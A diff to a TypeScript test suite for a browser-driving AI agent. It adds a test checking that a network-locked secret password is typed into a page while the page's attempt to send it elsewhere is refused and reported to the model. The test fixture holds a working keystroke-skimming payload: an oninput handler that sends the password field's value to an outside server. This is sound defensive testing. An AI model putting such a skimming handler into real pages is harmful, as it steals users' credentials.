@@ -14,13 +14,18 @@ describe.each(onlyReplayed)('the agent in a real browser (%s)', (_name, { env })
   let outside: Site;
   const typed: string[] = [];
   const dropped: string[] = [];
+  const arrived: string[] = [];
 
   beforeAll(async () => {
-    outside = await startSite(() => '<title>Outside</title><h1>Forbidden words</h1>');
+    outside = await startSite((path) => {
+      arrived.push(path);
+      return '<title>Outside</title><h1>Forbidden words</h1>';
+    });
     inside = await startSite((path, body) => {
       if (path === '/typed') typed.push(body);
       if (path === '/dropped') dropped.push(body);
       if (path === '/board') return board;
+      if (path === '/curious') return curious(outside.url);
       if (path === '/redirect') return { redirect: outside.url };
       return `<title>Inside</title><h1>Welcome</h1>
         <a href="${outside.url}">Leave</a> <a href="/redirect">Moved</a>
@@ -28,8 +33,12 @@ describe.each(onlyReplayed)('the agent in a real browser (%s)', (_name, { env })
     });
     harness = await startHarness({
       address: sharedServerAddress(),
-      env: { ...env, STEADYHAND_SECRET_DOOR: 'open-sesame' },
-      config: { kinds: ['web'], slots: 1, secrets: { DOOR: { origins: [inside.url] } } },
+      env: { ...env, STEADYHAND_SECRET_DOOR: 'open-sesame', STEADYHAND_SECRET_SAFE: 'shut-sesame' },
+      config: {
+        kinds: ['web'],
+        slots: 1,
+        secrets: { DOOR: { origins: [inside.url] }, SAFE: { origins: [inside.url], lockNetwork: true } },
+      },
     });
   });
   afterAll(async () => {
@@ -79,6 +88,32 @@ describe.each(onlyReplayed)('the agent in a real browser (%s)', (_name, { env })
     expect(result.outcome).toBe('completed');
     expect(new URLSearchParams(typed.at(-1)).get('p')).toBe('open-sesame');
     await expectNowhere(run, 'open-sesame');
+  });
+
+  test('LK22: what a page with a locked secret sends elsewhere is refused, the model is told, and the login goes on', async () => {
+    arrived.length = 0;
+    const run = await harness.run(
+      {
+        host: assignThenFinish,
+        app: [
+          ({ find }) => ({
+            Function: 'set_edit_text',
+            Args: { text: '{{secret:SAFE}}', clear_current_text: true },
+            ControlLabel: find('pw', /Password/)?.label,
+            ControlText: 'Password',
+            Status: 'CONTINUE',
+          }),
+          click('Save'),
+          say('FINISH', { Result: 'saved' }),
+        ],
+      },
+      { request: 'log in', device: { kind: 'web', url: `${inside.url}/curious` } },
+    );
+    expect((await run.handle.result()).outcome).toBe('completed');
+    expect(new URLSearchParams(typed.at(-1)).get('p')).toBe('shut-sesame');
+    expect(arrived).toEqual([]);
+    expect(told(run)).toContain(`to ${outside.url}. What may be reached is set by secrets.SAFE.lockNetwork.`);
+    await expectNowhere(run, 'shut-sesame');
   });
 
   test('HE44: a password that the model types by itself reaches the page, and stands in no history, record or later prompt', async () => {
@@ -151,6 +186,9 @@ describe.each(onlyReplayed)('the agent in a real browser (%s)', (_name, { env })
     }
   }
 });
+
+const curious = (elsewhere: string): string => `<title>Curious</title>
+  <form method="post" action="/typed"><label>Password <input type="password" name="p" oninput="new Image().src = '${elsewhere}/seen?' + encodeURIComponent(this.value)"></label><button>Save</button></form>`;
 
 const board = `<title>Board</title><style>[role] { position: absolute; top: 100px; width: 120px; height: 80px; background: #ddd }</style>
   ${['Card', 'Archive', 'Delete'].map((name, index) => `<div role="button" tabindex="0" style="left: ${50 + 250 * index}px">${name}</div>`).join('')}
